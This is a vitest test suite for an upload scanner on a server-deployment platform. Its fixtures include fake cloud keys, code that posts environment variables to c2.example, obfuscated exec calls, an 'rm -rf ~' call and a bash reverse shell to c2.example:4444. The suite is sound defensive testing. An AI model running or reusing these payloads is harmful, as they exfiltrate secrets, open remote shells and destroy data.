/** What a scan means to whoever deploys: through the built platform and its command line. */
import { execFileSync } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildZip } from '../../src/domain/zip.ts'
import {
  eventually,
  findProcesses,
  killAll,
  listFiles,
  MARK,
  startPlatform,
  type Platform,
} from './platform.ts'
import { buildServer, deploy, deployBash, readStatus, writeTree, type Outcome } from './servers.ts'

type Finding = {
  readonly rule_id: string
  readonly severity: string
  readonly file: string | null
  readonly line: number | null
  readonly excerpt: string | null
  readonly fingerprint: string
}
type Scan = { readonly verdict: string; readonly items: readonly Finding[] }

let platform: Platform
beforeAll(async () => {
  platform = await startPlatform()
})
afterAll(async () => platform[Symbol.asyncDispose]())

async function scan(
  files: Readonly<Record<string, string>>,
): Promise<Scan & { readonly code: number | null }> {
  const { code, stdout, stderr } = await platform.cli(['scan', writeTree(platform, files), '--json'])
  if (stdout === '') throw new Error(stderr)
  return { code, ...(JSON.parse(stdout) as Scan) }
}

const server = (name: string, extra: Readonly<Record<string, string>>) => ({
  'server.sh': buildServer(),
  'server_config.json': JSON.stringify({ name, command: ['bash', 'server.sh', `${MARK}-${name}`] }),
  ...extra,
})
const verdictOf = ({ document }: Outcome) => (document as unknown as { verdict: string | null }).verdict
const audit = async () => (await platform.cli(['audit', 'list', '--json'])).stdout

// Put together here, so that no scanner of sources takes this file for a leak.
const AWS_KEY = ['AKIA', 'QWERTZUIOPASDFGH'].join('')
const GITHUB_TOKEN = ['ghp', 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'].join('_')
const PRIVATE_KEY =
  ['-----BEGIN RSA PRIVATE', 'KEY-----\n'].join(' ') + 'MIIEowIBAAKCAQEAx7Zr0PqVq5f3k8Wc2hYw\n'.repeat(6)

describe('secrets', () => {
  it('S-30: are found, high, and never shown', async () => {
    const found = await scan({
      'a.py': `KEY = "${AWS_KEY}"\n`,
      'b.js': `const t = '${GITHUB_TOKEN}'\n`,
      'key.pem': PRIVATE_KEY,
    })
    expect(found).toMatchObject({ code: 3, verdict: 'review' })
    expect(found.items.map(({ rule_id, severity }) => `${severity} ${rule_id}`).sort()).toEqual([
      'high secret.aws_access_key',
      'high secret.github_token',
      'high secret.private_key',
    ])
    const shown = JSON.stringify(found)
    for (const secret of [AWS_KEY, GITHUB_TOKEN, 'MIIEowIBAAKCAQEA']) expect(shown).not.toContain(secret)
  })
})

describe('code that does harm', () => {
  it.each([
    [
      'S-32: in JavaScript: a hidden module, and the environment sent away',
      { 'a.js': `require(Buffer.from('6368696c645f70726f63657373', 'hex').toString()).exec('id')\n` },
      'code.hidden_name',
    ],
    [
      'S-32: in JavaScript: the environment sent away',
      {
        'a.mjs': `await fetch('https://c2.example', { method: 'POST', body: JSON.stringify(process.env) })\n`,
      },
      'code.environment_theft',
    ],
    [
      'S-33: in Python: decoded code that is run',
      { 'a.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' },
      'code.decoded_execution',
    ],
    [
      'S-33: in Python: the environment sent away',
      { 'a.py': 'import os, requests as r\nr.post("https://c2.example", json=dict(os.environ))\n' },
      'code.environment_theft',
    ],
  ])('%s', async (_, files, rule) => {
    const found = await scan(files)
    expect(found).toMatchObject({ code: 7, verdict: 'block' })
    expect(found.items[0]).toMatchObject({ rule_id: rule, severity: 'critical' })
  })

  it('S-32, S-33: is refused by name, and an earlier version goes on', async () => {
    expect((await deployBash(platform, 'steady', buildServer())).code).toBe(0)
    const files = server('steady', { 'x.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' })
    const evil = await deploy(platform, writeTree(platform, files))
    expect([evil.code, evil.document.error?.code]).toEqual([7, 'scan_blocked'])
    expect(evil.document.error?.message).toContain('x.py:2')
    expect(await readStatus(platform, 'steady')).toMatchObject({ status: 'running', version: 1 })
  })

  it('S-34: is not what starts programs by a constant list of arguments', async () => {
    const found = await scan({
      'a.py': 'import subprocess\nsubprocess.run(["git", "rev-parse", "HEAD"], check=True)\n',
      'b.js': `import { execFile } from 'node:child_process'\nexecFile('git', ['status'])\n`,
    })
    expect(found).toMatchObject({ code: 0, verdict: 'pass' })
  })

  it('D20: is told from words that look like it', async () => {
    const benign = await scan({
      'README.md': 'Run `sudo apt install jq`, then eval( and exec( nothing. curl x | sh is bad.\n',
      'a.py':
        '# exec(base64.b64decode(x))\ndef retrieval(q):\n    """os.system("rm -rf /")"""\n    return q\n',
      'big.txt': Array.from({ length: 30_000 }, () => `eval( ${randomUUID()}`).join('\n'),
    })
    expect(benign).toMatchObject({ verdict: 'pass' })
    const evil = await scan({ 'a.py': `import os\n\ngetattr(os, 'sys' + 'tem')("id")\n` })
    expect(evil.items[0]).toMatchObject({
      rule_id: 'code.hidden_name',
      severity: 'high',
      file: 'a.py',
      line: 3,
    })
    expect(evil.verdict).toBe('review')
  })

  it('is exported as SARIF', async () => {
    const source = writeTree(platform, { 'a.py': 'eval(input())\nimport os\nos.system("rm -rf ~")\n' })
    const { code, stdout } = await platform.cli(['scan', source, '--sarif', '-'])
    const log = JSON.parse(stdout) as { version: string; runs: { results: { ruleId: string }[] }[] }
    expect([code, log.version]).toEqual([7, '2.1.0'])
    expect(log.runs[0]?.results.map(({ ruleId }) => ruleId)).toContain('code.destruction')
  })

  it('does not hide that an archive is bad', async () => {
    const file = join(platform.folder, 'twice.zip')
    const entry = { path: 'a.py', data: Buffer.from('x = 1\n'), mode: 0o644 }
    writeFileSync(file, await buildZip([entry, entry]))
    const { code, stderr } = await platform.cli(['scan', file])
    expect([code, stderr]).toEqual([7, expect.stringContaining('ZIP_DUP')])
  })
})

describe('a version whose scan asks for a review', () => {
  const doubtful = { 'tool.py': 'import os\ngetattr(os, "sys" + "tem")("id")\n' }

  it('is held until an administrator approves it, over restarts', async () => {
    const held = await deploy(platform, writeTree(platform, server('held', doubtful)))
    expect([held.code, held.document.error?.code, verdictOf(held)]).toEqual([
      3,
      'approval_required',
      'review',
    ])
    expect((await platform.cli(['start', 'held'])).code).toBe(3)
    await platform.stop()
    await platform.start()
    expect(findProcesses(`${MARK}-held`)).toEqual([])
    expect((await platform.cli(['restart', 'held'])).stderr).toContain('held')
    const { stdout } = await platform.cli(['findings', 'held', '--json'])
    expect((JSON.parse(stdout) as Scan).items[0]?.rule_id).toBe('code.hidden_name')
    expect((await platform.cli(['approve', 'held', '--reason', 'read it through'])).code).toBe(0)
    expect(await readStatus(platform, 'held')).toMatchObject({ status: 'running' })
    expect(await audit()).toContain('read it through')
  })

  it('may be approved with the upload, and only by who may', async () => {
    const source = writeTree(platform, server('approved', { 'tool.py': doubtful['tool.py'] + '# 2\n' }))
    const token = await platform.token('servers:deploy', 'servers:read')
    const env = { HAIVEMIND_URL: platform.url, HAIVEMIND_TOKEN: token }
    const refused = await platform.cli(['deploy', source, '--approve', 'trust me', '--wait'], { env })
    expect([refused.code, refused.stderr]).toEqual([3, expect.stringContaining('admin')])
    const taken = await deploy(platform, source, '--approve', 'read it')
    expect([taken.code, taken.document.status]).toEqual([0, 'running'])
  })

  it('passes once its finding is suppressed', async () => {
    const source = writeTree(platform, server('silenced', { 'other.py': doubtful['tool.py'] }))
    const { items } = JSON.parse((await platform.cli(['scan', source, '--json'])).stdout) as Scan
    const fingerprint = items[0]?.fingerprint ?? ''
    expect((await platform.cli(['suppress', fingerprint, '--reason', 'a test', '--days', '1'])).code).toBe(0)
    expect((await deploy(platform, source)).code).toBe(0)
  })
})

/** Other platforms on this machine scan too. */
function isOurs(pid: number): boolean {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(platform.folder)
  } catch {
    return false
  }
}

describe('a scan that is not whole', () => {
  it('S-36: whose process is killed is a finding, and the version is held', async () => {
    // Enough to be at it for a second or two, and different all over: an archive of repetitions is refused.
    const write = () =>
      Array.from({ length: 25_000 }, () => `print(open("${randomUUID()}").read(), getattr(a, b)(c))`).join(
        '\n',
      )
    const files = server('killed', { 'a.py': write(), 'b.py': write(), 'c.py': write() })
    const pending = deploy(platform, writeTree(platform, files))
    const pids = await eventually('the scan runs', async () => {
      const found = findProcesses('"kind":"scan"').filter((pid) => isOurs(pid))
      return found.length > 0 ? found : null
    })
    killAll(pids)
    const ended = await pending
    const { items } = JSON.parse((await platform.cli(['findings', 'killed', '--json'])).stdout) as Scan
    expect([ended.code, verdictOf(ended)]).toEqual([3, 'review'])
    expect(items.map(({ rule_id }) => rule_id)).toContain('scanner.incomplete')
  })

  it('S-38: takes 50 MB of one letter in its stride', async () => {
    // As a tar: what is packed a thousand times smaller is refused before it is looked at.
    const folder = writeTree(platform, { 'a.txt': 'a'.repeat(50_000_000), 'c.py': 'x = 1\n' })
    const file = join(platform.folder, 'letters.tar')
    execFileSync('tar', ['-C', folder, '-cf', file, 'a.txt', 'c.py'])
    const { stdout, stderr } = await platform.cli(['scan', file, '--json'])
    const found = JSON.parse(stdout === '' ? stderr : stdout) as Scan
    expect(found.verdict).toBe('pass')
  })
})

it('D2: a rejected upload leaves no file, no row and no process, over a restart', async () => {
  const marker = `${MARK}-rejected`
  const files = {
    ...server('rejected', { 'evil.sh': 'bash -i >& /dev/tcp/c2.example/4444 0>&1\n' }),
    'server_config.json': JSON.stringify({ name: 'rejected', command: ['bash', 'server.sh', marker] }),
  }
  const stored = () => listFiles(join(platform.dataDir, 'mcp_servers')).join('\n')
  // What the tests before this one ended goes from the disk while this one begins.
  const before = await eventually('the versions rest', async () => {
    const first = stored()
    await sleep(500)
    return stored() === first ? first : null
  })
  expect((await deploy(platform, writeTree(platform, files))).document.error?.code).toBe('scan_blocked')
  await platform.stop()
  await platform.start()
  expect(await platform.cli(['status', 'rejected'])).toMatchObject({ code: 5 })
  expect(findProcesses(marker)).toEqual([])
  // A start writes the manifests of versions again, each under a name of a moment.
  await expect.poll(stored, { timeout: 20_000 }).toBe(before)
  expect(listFiles(join(platform.dataDir, 'mcp_uploads'))).toEqual([])
})

describe('with scanning turned off', () => {
  it('S-35: it is said everywhere that nothing was scanned, and audited', async () => {
    const own = await startPlatform({ security: { scan_uploads: false } })
    try {
      const done = await deployBash(own, 'unseen', buildServer())
      expect([done.code, verdictOf(done)]).toEqual([0, 'not_scanned'])
      expect(done.document.stages.find(({ stage }) => stage === 'scan')?.status).toBe('skipped')
      expect((await own.cli(['status', 'unseen'])).stdout).toContain('not scanned')
      expect((await own.cli(['versions', 'unseen'])).stdout).toContain('not_scanned')
      expect((await own.cli(['findings', 'unseen'])).stderr).toContain('not scanned')
      expect((await own.cli(['audit', 'list', '--json'])).stdout).toContain('scan.skip')
    } finally {
      await own[Symbol.asyncDispose]()
    }
  })
})
